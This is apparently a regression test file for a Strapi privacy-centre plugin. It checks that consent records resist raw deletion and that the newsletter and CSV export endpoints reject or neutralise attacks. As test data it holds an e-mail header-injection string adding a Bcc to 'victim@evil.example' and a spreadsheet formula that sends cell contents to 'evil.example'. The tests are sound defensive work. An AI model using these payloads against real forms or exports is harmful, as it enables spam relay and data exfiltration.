import { bootStrapi, type TestStrapi } from '../helpers/strapi';
import { createAdmin } from '../helpers/admin';

/**
 * Attacks on proof of consent and the newsletter that once got through: regression tests, one
 * `describe` per finding. Runs on SQLite, PostgreSQL and MySQL.
 */
const RECORD = 'plugin::privacy-centre.consent-record';
const RECORDS = 'privacy_centre_consent_records';
const SUBSCRIPTIONS = 'plugin::privacy-centre.newsletter-subscription';
let app: TestStrapi;
let token: string;

beforeAll(async () => {
  app = await bootStrapi();
  token = (await createAdmin(app)).token;
  const auth = { Authorization: `Bearer ${token}` };
  expect((await app.http().post('/privacy-centre/cookies/publish').set(auth).send({})).status).toBe(200);
});
afterAll(async () => {
  await app?.close();
});

const consent = (body: object | string, type = 'application/json') =>
  app.http().post('/api/privacy-centre/consents').set('Content-Type', type).send(typeof body === 'string' ? body : JSON.stringify(body));
const reason = (promise: Promise<unknown>) => promise.then(() => 'done', (error: Error) => String(error?.message ?? error));
const knex = () => app.strapi.db.connection;

describe('consent records cannot be deleted below Strapi (SQL console, strapi import / transfer)', () => {
  it('the database refuses deleting a record the retention purge would keep; the purge still deletes what it may', async () => {
    const fresh = await consent({ state: { statistics: true, marketing: false, preferences: false } });
    expect(fresh.status).toBe(201);
    const { consentId } = fresh.body.data;
    const count = () => app.strapi.db.query(RECORD).count({});
    const before = await count();

    // A raw DELETE of one record, and of every record (what `strapi import` does with lifecycles off).
    expect(await reason(knex()(RECORDS).where({ consent_id: consentId }).del())).toMatch(/proof of consent/);
    expect(await reason(knex()(RECORDS).del())).toMatch(/proof of consent/);
    // Through Strapi as well.
    expect(await reason(app.strapi.db.query(RECORD).deleteMany({}))).toMatch(/proof of consent/);
    expect(await count()).toBe(before);

    // Records as old as retention allows to purge, and one expired but still within retention.
    const old = (id: string, expiresAt: string, kind = 'cookie') => ({
      document_id: id.padEnd(24, 'x'), consent_id: id.padEnd(22, 'x'), kind, action: 'given', state: '{}',
      given_at: '2019-01-01T00:00:00.000Z', expires_at: expiresAt, via: 'plugin',
    });
    const kept = new Date(Date.now() - 30 * 24 * 3600 * 1000).toISOString();
    await knex()(RECORDS).insert([old('oldcookie', '2020-01-01T00:00:00.000Z'), old('recentcookie', kept), old('oldnewsletter', '2020-01-01T00:00:00.000Z', 'newsletter')]);
    expect(await reason(knex()(RECORDS).where({ consent_id: 'recentcookie'.padEnd(22, 'x') }).del())).toMatch(/proof of consent/);
    expect(await reason(knex()(RECORDS).where({ consent_id: 'oldnewsletter'.padEnd(22, 'x') }).del())).toMatch(/proof of consent/);

    const result = await app.strapi.plugin('privacy-centre').service('retention').run();
    expect(result.consentRecords).toBe(1);
    expect(await app.strapi.db.query(RECORD).findOne({ where: { consentId: 'oldcookie'.padEnd(22, 'x') } })).toBeNull();
    expect(await app.strapi.db.query(RECORD).findOne({ where: { consentId: 'recentcookie'.padEnd(22, 'x') } })).not.toBeNull();
    expect(await app.strapi.db.query(RECORD).findOne({ where: { consentId } })).not.toBeNull();
  });
});

describe('a consent source the URL parser accepts but the databases cannot store', () => {
  it('is a 400 naming source, and records nothing', async () => {
    const before = await app.strapi.db.query(RECORD).count({});
    for (const source of ['"https://site.example/a\\u0000b"', '"https://site.example/\\ud800"']) {
      const response = await consent(`{"state":{"statistics":false,"marketing":false,"preferences":false},"source":${source}}`);
      expect(response.status).toBe(400);
      expect(response.body.error.message).toMatch(/source/);
      // The same as sendBeacon sends it.
      const beacon = await consent(`{"state":{"statistics":false,"marketing":false,"preferences":false},"source":${source}}`, 'text/plain');
      expect(beacon.status).toBe(400);
    }
    expect(await app.strapi.db.query(RECORD).count({})).toBe(before);
  });
});

describe('e-mail header and recipient injection through the subscribed address', () => {
  it('refuses quoted local parts (CR/LF, commas, angle brackets) and whitespace with a 400, and queues nothing', async () => {
    const addresses = [
      '"a\r\nBcc: victim@evil.example"@example.com',
      '"victim@evil.example,x"@example.com',
      '"a>b"@example.com',
      '"a b"@example.com',
    ];
    for (const email of addresses) {
      const response = await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email });
      expect(response.status).toBe(400);
      expect(response.body.error.message).toMatch(/email/);
    }
    await app.strapi.plugin('privacy-centre').service('newsletter').drain();
    expect(await app.strapi.db.query(SUBSCRIPTIONS).count({})).toBe(0);
    // An ordinary address still goes through.
    expect((await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email: 'Anna.Virtanen+news@Example.COM' })).status).toBe(202);
  });
});

describe('CSV injection into the exports the DPO opens in a spreadsheet', () => {
  const csvOf = (path: string) =>
    app.http().get(`/privacy-centre${path}`).set('Authorization', `Bearer ${token}`).buffer(true).parse((res, done) => {
      let text = '';
      res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
      res.on('end', () => done(null, text));
    });

  it('a user agent or an address written as a formula is exported as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Open")';
    const recorded = await app.http().post('/api/privacy-centre/consents').set('User-Agent', formula)
      .send({ state: { statistics: false, marketing: false, preferences: false } });
    expect(recorded.status).toBe(201);
    const consents = (await csvOf('/consents/export?format=csv')).body as string;
    expect(consents).toContain(`'=HYPERLINK(`);
    expect(consents).not.toMatch(/(^|,)"?=HYPERLINK/m);

    expect((await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email: '=1+2@example.com' })).status).toBe(202);
    await app.strapi.plugin('privacy-centre').service('newsletter').drain();
    const subscribers = (await csvOf('/newsletter/export?format=csv')).body as string;
    expect(subscribers).toContain(`'=1+2@example.com`);
    expect(subscribers).not.toMatch(/(^|,)"?=1\+2@/m);
    // Ordinary values are untouched.
    expect(subscribers).toContain('Anna.Virtanen+news@example.com');
  });
});

describe('logs of a failed write', () => {
  it('name neither the address nor the links (knex inlines every value of the statement in its message)', async () => {
    const client = app.strapi.db.dialect.client;
    const sql =
      client === 'postgres'
        ? [
            `CREATE FUNCTION cn_boom() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF NEW.kind = 'newsletter' THEN RAISE EXCEPTION 'boom'; END IF; RETURN NEW; END $$`,
            `CREATE TRIGGER cn_boom BEFORE INSERT ON ${RECORDS} FOR EACH ROW EXECUTE FUNCTION cn_boom()`,
          ]
        : client === 'mysql'
          ? [`CREATE TRIGGER cn_boom BEFORE INSERT ON ${RECORDS} FOR EACH ROW BEGIN IF NEW.kind = 'newsletter' THEN SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'boom'; END IF; END`]
          : [`CREATE TRIGGER cn_boom BEFORE INSERT ON ${RECORDS} WHEN NEW.kind = 'newsletter' BEGIN SELECT RAISE(ABORT, 'boom'); END`];
    for (const statement of sql) await knex().raw(statement);
    const logged: string[] = [];
    const spy = jest.spyOn(app.strapi.log, 'error').mockImplementation(((message: unknown) => {
      logged.push(String(message));
    }) as any);
    try {
      expect((await app.http().post('/api/privacy-centre/newsletter/subscribe').send({ email: 'secret.reader@example.com' })).status).toBe(202);
      await app.strapi.plugin('privacy-centre').service('newsletter').drain();
    } finally {
      spy.mockRestore();
      await knex().raw(client === 'postgres' ? `DROP TRIGGER cn_boom ON ${RECORDS}` : 'DROP TRIGGER cn_boom');
      if (client === 'postgres') await knex().raw('DROP FUNCTION cn_boom()');
    }
    expect(logged.join('\n')).toMatch(/could not be processed: .*boom/);
    expect(logged.join('\n')).not.toMatch(/secret\.reader|token=|insert into/i);
  });
});
